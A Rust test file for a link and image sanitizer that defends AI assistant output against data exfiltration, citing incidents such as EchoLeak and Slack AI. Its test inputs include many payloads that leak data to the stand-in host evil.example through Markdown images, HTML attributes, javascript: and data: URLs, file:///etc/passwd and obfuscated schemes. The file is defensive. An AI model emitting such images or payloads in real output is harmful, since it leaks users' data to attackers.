//! The attacks, each with its source, and what must stay.

use super::super::tests::{one, rules};
use super::*;

fn rules_of(images: Policy, links: Policy, relative: bool, data_bits: Option<u32>) -> LinksRules {
    let schemes = ["https", "mailto"].map(str::to_owned).to_vec();
    LinksRules { schemes, images, links, relative, data_bits }
}

fn links(links: Policy) -> Links {
    made(rules_of(Policy::Keep, links, false, None))
}

fn made(rules: LinksRules) -> Links {
    Links::new(["good.example", "*.cdn.example", "port.example:8443"], rules)
        .unwrap_or_else(|_| unreachable!())
}

#[test]
fn images_that_carry_data_off_go() {
    for (text, left) in [
        // Bing Chat, ChatGPT, Bard (Embrace The Red, 2023), Slack AI (PromptArmor, 2024).
        ("![x](https://evil.example/?q=secret)", "![x] (image removed)"),
        ("![x](https://evil.example/?q=secret \"title\") b", "![x] (image removed) b"),
        ("a ![](http://evil.example/a.png)b", "a ![] (image removed)b"),
        // EchoLeak (CVE-2025-32711): by reference, which a filter of inline images does not see; and with an empty text.
        ("![x][ref]\n\n[ref]: https://evil.example/?q=secret", "![x][ref]\n\n[ref]: (link removed)"),
        ("![ref]\n[ref]:\n  <https://evil.example/?q=s> 'title'", "![ref]\n[ref]: (link removed) 'title'"),
        ("> [ref]: //evil.example/s\n", "> [ref]: (link removed)\n"),
        // GitLab Duo (Legit Security, 2025): HTML.
        ("<img src=https://evil.example/?q=secret>", " (image removed)"),
        ("a <IMG\nSRC = 'https://evil.example/x' />b", "a (image removed)b"),
        ("<img/src=\"//evil.example\">", " (image removed)"),
        ("<p><img alt='>' src=https://evil.example></p>", "<p> (image removed)</p>"),
        ("<img srcset='https://good.example/a 1x, https://evil.example/b 2x'>", " (image removed)"),
        ("<p style=\"background:url(https://evil.example/s)\">", " (image removed)"),
        ("<p style='background:u\\72l(//evil.example)'>", " (image removed)"),
        (
            "<video poster=https://evil.example/a><source src=//evil.example>",
            " (image removed) (image removed)",
        ),
        ("<link rel=prefetch href=https://good.example/>", " (image removed)"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>", " (image removed)"),
        ("<svg><image href=https://evil.example/></svg>", " (image removed) (image removed)</svg>"),
        ("<a href=https://good.example ping=https://evil.example>a</a>", " (image removed)a</a>"),
        ("<b onclick=alert(1)>a</b>", " (image removed)a</b>"),
        ("<x data-src='https://evil.example'>", " (image removed)"),
        (
            "[![x](https://evil.example/s)](https://good.example/)",
            "[![x] (image removed)](https://good.example/)",
        ),
    ] {
        for policy in [Policy::Remove, Policy::Defang] {
            assert_eq!(one(&links(policy), text).trim_start(), left.trim_start(), "{text:?}");
        }
        assert!(!rules(&links(Policy::Remove), text).is_empty(), "{text:?}");
    }
}

#[test]
fn an_image_is_one_however_its_brackets_are_written() {
    let keeps_links = links(Policy::Keep);
    for text in [
        "![a [b] c](https://evil.example/s)",
        "![a\\[b](https://evil.example/s)",
        "![a `[` b](https://evil.example/s)",
        "![a <b title='['> b](https://evil.example/s)",
        "![a [b](https://evil.example/s) c](https://evil.example/s)",
        "![a\\]b](https://evil.example/s)",
        "![](\n https://evil.example/s)",
        "![](<https://evil.example/s>)",
        "\\![a](https://evil.example/s)",
        "![x <b title=\"](https://evil.example/s)\">",
        "<b title=\"![x\">](https://evil.example/s)",
    ] {
        let left = one(&keeps_links, text);
        assert!(!left.contains("https://evil"), "{text:?} {left:?}");
    }
    for text in [
        "[a](https://evil.example/s)",
        "![a]\n\n[a](https://evil.example/s)",
        "https://evil.example/ [x] (y)",
    ] {
        assert_eq!(one(&keeps_links, text), text);
        assert!(!rules(&keeps_links, text).is_empty());
    }
}

#[test]
fn addresses_that_readers_differ_about_are_never_kept() {
    for address in [
        "https:\\\\evil.example",
        "https:/evil.example",
        "https:evil.example",
        "//evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "https://good.example@evil.example",
        "https://good.example:x@evil.example",
        "https://evil.example\\@good.example",
        "https://good.example\\.evil.example",
        "https://good.example%2eevil.example",
        "https://good.ex%61mple",
        "https&#58;//evil.example",
        "https&colon;//evil.example",
        "https&#x3a;&#x2f;/evil.example",
        "&#104;ttps://evil.example",
        "https://good.example&sol;@evil.example",
        "https://good。example",
        "https://ɢood.example",
        "https://good.example:99999",
        "https://good.example:",
        "javascript:alert(1)",
        "JaVaScRiPt:alert`1`",
        "data:text/html;base64,PHNjcmlwdD4",
        "vbscript:x",
        "file:///etc/passwd",
        "blob:https://good.example/1",
        "https://[::1]/",
        "https://",
        "https:///good.example",
        "ht\u{200b}tps://good.example",
        "https://good.example/\u{0}",
        "https://good.example/\"onerror=\"x",
        "https://good.example/{x}",
        "../x?y",
        "/x",
        "?q=secret",
        "a/b",
        "&#x2f;/evil.example",
        "java&Tab;script:alert(1)",
        "%6aavascript:alert(1)",
        "mailto://evil.example",
    ] {
        for text in [
            format!("[a]({address})"),
            format!("![a](<{address}>)"),
            format!("<a href='{address}'>"),
            format!("<img src=\"{address}\">"),
        ] {
            let left = one(&links(Policy::Keep), &text);
            assert!(left.contains(" removed)") || !left.contains(address), "{text:?} {left:?}");
        }
    }
    // Blanks, which browsers drop, end a destination or make it none.
    for text in [
        "[a](java\nscript:alert(1))",
        "[a](https:\t//evil.example)",
        "<img src='https:\n//evil.example'>",
        "[a](<https:\n//evil.example>)",
    ] {
        let left = one(&links(Policy::Remove), text);
        assert!(!left.contains("https:") && !left.contains("<img"), "{text:?} {left:?}");
    }
}

#[test]
fn what_is_listed_stays() {
    for text in [
        "![x](https://good.example/a.png)",
        "![x](https://img.cdn.example/a.png \"t\")",
        "[x](https://port.example:8443/)",
        "<https://good.example/a?b=c&d=e#f>",
        "[x](https://good.example/X_(y))",
        "see https://good.example/. Or (https://good.example/a), or https://GOOD.example:443/ä!",
        "[x](#part) [y](word) [z]()",
        "[1]: https://good.example/x \"t\"\n",
        "[^1]: A note.",
        "[note]: e.g. this",
        "<a href=\"https://good.example/\" target=_blank title='a b'>x</a>",
        "<img src=https://good.example/a.png alt=\"a > b\" width=100%>",
        "<p style='color: red'>a</p>",
        "[m](mailto:a@b.example)",
        "www.cdn.example",
        "a < b, c <= d, x<5, i<-1, </p>",
        "a[0](x) [y] (z) {k: v}",
        "if (a[i] == b) { c(\"d\") }",
        "the w, h and f of http: and https and ftp:/ ww. wwx.",
        "<b><i>x</i></b><br/>",
        "f<T>(x: T)",
        "what? why! how: so; thus",
        "awww.cute",
        "2 https",
        "<T: Clone>",
    ] {
        for policy in [Policy::Keep, Policy::Remove, Policy::Defang] {
            assert_eq!(one(&links(policy), text), text, "{policy:?}");
        }
        assert!(rules(&links(Policy::Remove), text).is_empty(), "{text:?}");
    }
    let relative = made(rules_of(Policy::Keep, Policy::Remove, true, None));
    for text in ["[x](/a/b?c=d&e=f#g)", "![x](../a.png)", "<img src='a/b.png'>", "[x](?a=1)"] {
        assert_eq!(one(&relative, text), text);
    }
    for text in [
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "[x](&#x2f;/evil.example)",
        "[x](/&sol;evil.example)",
        "[x](a:b)",
    ] {
        assert!(one(&relative, text).contains("removed"), "{text:?}");
    }
}

#[test]
fn links_elsewhere_are_kept_removed_or_made_unclickable() {
    for (text, removed, defanged) in [
        ("[a](https://evil.example/x)", "[a] (link removed)", "[a] (hxxps://evil[.]example/x)"),
        ("see https://evil.example/x.", "see (link removed).", "see (hxxps://evil[.]example/x)."),
        ("<https://evil.example/x>!", " (link removed)!", " (hxxps://evil[.]example/x)!"),
        ("(www.evil.example)", "( (link removed))", "( (www[.]evil[.]example))"),
        ("http://127.0.0.1/", " (link removed)", " (hxxp://127[.]0[.]0[.]1/)"),
        (
            "[a](https://evil.example/?u=https://b.example)",
            "[a] (link removed)",
            "[a] (hxxps://evil[.]example/?u=https:%2F%2Fb.example)",
        ),
        ("[a](javascript:alert(1)) b", "[a] (link removed) b", "[a] (link removed) b"),
        ("HTTPS://evil.example", " (link removed)", " (hxxps://evil[.]example)"),
        ("<a href=https://evil.example>x</a>", " (link removed)x</a>", " (link removed)x</a>"),
    ] {
        let expect = |policy, left: &str| {
            let got = one(&links(policy), text);
            assert!(got.trim_start().starts_with(left.trim_start()) || got == left, "{text:?} {got:?}");
            assert!(!got.contains("https://evil") && !got.contains("HTTPS://evil"), "{got:?}");
        };
        expect(Policy::Remove, removed);
        expect(Policy::Defang, defanged);
    }
}

#[test]
fn blanks_before_a_destination_hide_nothing() {
    // Renderers skip as many as there are, browsers drop some that renderers keep.
    for destination in
        ["//evil.example/?q=s", "https&colon;//evil.example/", "\\//evil.example/", "javascript:alert(1)"]
    {
        for blank in [" ".repeat(64), " ".repeat(3000), "\t".repeat(65), format!("{0}\n{0}", " ".repeat(70))]
        {
            for text in [
                format!("![x]({blank}{destination})"),
                format!("[x]({blank}<{destination}>)"),
                format!("[x]:{blank}{destination}"),
            ] {
                let left = one(&links(Policy::Keep), &text);
                assert!(left.contains("removed)") && !left.contains(destination), "{text:?} {left:?}");
            }
        }
        for blank in "\u{a0}\u{85}\u{1680}\u{2003}\u{2028}\u{3000}\u{feff}\x0b\x0c\x01".chars() {
            for text in [
                format!("![x]({blank}{destination})"),
                format!("[x]( {blank}{destination})"),
                format!("[x]:{blank}{destination}"),
                format!("![x](https://good.example{blank}@evil.example/?q=s)"),
                format!("![x](a{blank}{destination})"),
                format!("[x]({blank})"),
            ] {
                let left = one(&links(Policy::Keep), &text);
                assert!(left.contains("removed)") && !left.contains("evil"), "{text:?} {left:?}");
            }
        }
    }
    let wide = format!("[x](https://good.example/{})", " ".repeat(100));
    assert_eq!(one(&links(Policy::Remove), &wide), wide);
}

#[test]
fn images_are_of_listed_hosts_or_none_at_all() {
    let keeps = made(rules_of(Policy::Keep, Policy::Keep, true, None));
    let removes = made(rules_of(Policy::Remove, Policy::Keep, true, None));
    for listed in [
        "![x](https://good.example/a.png)",
        "![x](a.png)",
        "<img src=https://good.example/a.png>",
        "<img src='a.png'>",
        "<td background=a.png>",
        "<x data-a='https://good.example/a.png'>",
        "![x][1]\n\n[1]: https://good.example/a.png",
        "![1]\n[1]: /a/b.png",
    ] {
        assert_eq!(one(&keeps, listed), listed);
        let left = one(&removes, listed);
        assert!(left.contains("removed)") && !left.contains(".png"), "{listed:?} {left:?}");
    }
    // The definition was let pass when the image comes.
    assert_eq!(
        one(&removes, "[1]: https://good.example/a.png\n\n![x][1] [y][1]"),
        "[1]: https://good.example/a.png\n\n! [x][1] [y][1]"
    );
    for unlisted in [
        "![x](https://evil.example/?q=s)",
        "<img src=https://evil.example/?q=s>",
        "<video poster=https://evil.example/?q=s>",
        "<iframe src=https://evil.example/?q=s>",
        "![x][1]\n[1]: https://evil.example/?q=s",
    ] {
        for plan in [&keeps, &removes] {
            let left = one(plan, unlisted);
            assert!(!left.contains("//evil") && left.contains("removed)"), "{unlisted:?} {left:?}");
        }
    }
}

#[test]
fn what_is_unclickable_has_no_other_link_in_it() {
    for (text, left) in [
        ("www.evil.example/?q=s://x", "(www[.]evil[.]example/?q=s:%2F%2Fx)"),
        ("WwW.evil.example/", "(WwW[.]evil[.]example/)"),
        ("https://evil.example/?WwW.evil.example", "(hxxps://evil[.]example/?WwW%2Eevil.example)"),
        ("https://evil.example/?q=//a@b.example", "(hxxps://evil[.]example/?q=%2F%2Fa%40b.example)"),
    ] {
        let once = one(&links(Policy::Defang), text);
        assert_eq!(once.trim_start(), left);
        assert_eq!(one(&links(Policy::Defang), &once), once);
    }
}

#[test]
fn an_address_does_not_go_on_behind_its_end() {
    for sign in
        ["|", "}", "\"", "`", ")", "]", ">", "”", "’", "）", "」", "，", "\u{a0}", "\u{2003}", "\u{85}", "|”"]
    {
        for (text, never) in [
            (format!("https://good.example{sign}@evil.example/?q=s"), format!("{sign}@")),
            (format!("https://good.example:443{sign}&commat;evil.example/?q=s"), format!("{sign}&")),
            (format!("www.cdn.example{sign}x@evil.example/?q=s"), format!("{sign}x@")),
            (format!("\\[x](https://good.example)x{sign}@evil.example/"), format!("{sign}@")),
            (format!("\\<https://good.example>{sign}@evil.example/"), format!("{sign}@")),
            (format!("<a href=\"https://good.example\">{sign}@evil.example/"), format!("{sign}@")),
        ] {
            let left = one(&links(Policy::Remove), &text);
            assert!(!left.contains(&never), "{text:?} {left:?}");
        }
    }
    for sign in ["”", "’", "）", "\"", "}", ")"] {
        for text in [
            format!("https://good.example{sign}.evil.example/?q=s"),
            format!("https://good.example.{sign}evil.example/?q=s"),
            format!("https://good.example{sign}x。evil。example/?q=s"),
        ] {
            let left = one(&links(Policy::Remove), &text);
            assert!(
                left.split(' ').all(|run| !run.contains("good.example") || !run.contains("evil.example")),
                "{left:?}"
            );
        }
    }
    for text in [
        "{\"a\":\"https://good.example\",\"b\":1}",
        "(https://good.example). And \"https://good.example\": x@y.example",
        "[https://good.example](https://good.example)",
        "<a href=\"https://good.example\">good.example</a>",
        "https://good.example/a|b@c",
        "|https://good.example|b|",
    ] {
        assert_eq!(one(&links(Policy::Remove), text), text);
    }
}

#[test]
fn a_tag_hides_no_address_among_its_names() {
    for text in [
        "<a https://evil.example/?q=s>",
        "<b title=x https://evil.example/?q=s>",
        "<b www.evil.example/?q=s>",
        "<b x //evil.example/?q=s>",
        "<https/evil https://evil.example/?q=s>",
    ] {
        let left = one(&links(Policy::Remove), text);
        assert!(!left.contains("evil.example") && left.contains("removed)"), "{text:?} {left:?}");
    }
    assert_eq!(one(&links(Policy::Remove), "<a@evil.example>"), "< a@evil.example>");
}

#[test]
fn other_schemes_stand_nowhere() {
    let plain = made(LinksRules {
        schemes: vec!["https".to_owned()],
        ..rules_of(Policy::Remove, Policy::Remove, true, None)
    });
    for text in [
        "mailto:a@evil.example?body=s",
        "MAILTO:a@evil.example",
        "file:///evil/x",
        "vscode://evil.ext/x",
        "//``x.evil.example/q",
        "//evil.example/q",
        "(//u:evil@evil.example/q)",
        "'//evil。example/q'",
        "x//https://evil.example",
        "//x:https://evil.example/q",
        "//https://evil.example/q",
        "![//https://evil.example/q",
        "hxxps://evil.example/x",
        "hxxps://evil[.]example.evil/x",
        "<b class='x'mailto:a@evil.example>",
    ] {
        let left = one(&plain, text);
        assert!(left.contains("(link removed)") && !left.contains("evil"), "{text:?} {left:?}");
    }
    for text in [
        "// a comment",
        "//comment",
        "a//b.c",
        "a :// b, ://, mailto: and m",
        "/usr//lib/x.so",
        "C:/x and 1/2",
        "see hxxps://evil[.]example/x",
        "mail the mailman",
        "///",
        "//",
    ] {
        assert_eq!(one(&plain, text), text);
    }
    assert_eq!(one(&links(Policy::Remove), "mailto:a@b.example"), "mailto:a@b.example");
}

#[test]
fn what_is_left_open_is_judged_as_it_stands() {
    for text in [
        "![x](https://evil.example/?q=s",
        "![x](<https://evil.example/?q=s",
        "[x]: https://evil.example/s",
        "https://evil.example/s",
        "<img src='https://evil.example/s",
        "<img src=https://evil.example/s",
        "<a href=\"https://evil.example/s",
        "<https://evil.example/s",
        // Slack's links.
        "<https://evil.example|click>",
        "<!-- https://evil.example/s",
    ] {
        let left = one(&links(Policy::Remove), text);
        assert!(!left.contains("//evil"), "{text:?} {left:?}");
        assert!(
            !left.contains("<i") && !left.contains("<a") && !left.contains("<!") && !left.contains("<h"),
            "{left:?}"
        );
    }
    for text in ["a](", "a]:", "htt", "<", "ww", "![", "[x](  ", "http:/"] {
        assert_eq!(one(&links(Policy::Remove), text), text);
    }
}

#[test]
fn what_is_too_long_goes() {
    let long = "s".repeat(5000);
    for text in [
        format!("![x](https://good.example/{long}) b"),
        format!("![x](<https://good.example/{long}>) b"),
        format!("see https://good.example/{long} b"),
        format!("<img src='https://good.example/{long}'> b"),
    ] {
        let left = one(&links(Policy::Keep), &text);
        assert!(!left.contains("https://good") && left.ends_with(" b"), "{:?}", left.get(..80));
    }
}

#[test]
fn a_listed_host_takes_so_many_bits() {
    let bounded = made(rules_of(Policy::Keep, Policy::Remove, false, Some(200)));
    for text in ["![x](https://good.example/logo.png)", "[x](https://a.cdn.example/docs/page)"] {
        assert_eq!(one(&bounded, text), text);
    }
    let secret = "bXkgc29jaWFsIHNlY3VyaXR5IG51bWJlciBpcyAwNzgtMDUtMTEyMA";
    for text in [
        format!("![x](https://good.example/?q={secret})"),
        format!("![x](https://good.example/{secret}.png)"),
        format!("![x](https://{secret}.cdn.example/)"),
        format!("![x](https://good.example/#{secret})"),
        format!("https://good.example/{secret}"),
    ] {
        assert!(one(&bounded, &text).contains("removed"), "{text:?}");
        assert_eq!(rules(&bounded, &text), ["links.data"]);
    }
}

#[test]
fn hosts_are_written_as_browsers_write_them() {
    let rules = rules_of(Policy::Remove, Policy::Remove, false, None);
    for host in [
        "https://a.example",
        "a.example/",
        "A.example",
        "*.com",
        "*.github.io",
        "a.*.example",
        "bücher.example",
        "u@a.example",
        "",
        "*",
        "a.example:443",
    ] {
        assert!(Links::new([host], rules.clone()).is_err(), "{host:?}");
    }
    let bad = LinksRules { schemes: vec!["javascript".to_owned()], ..rules };
    assert!(Links::new(["a.example"], bad).is_err());
}
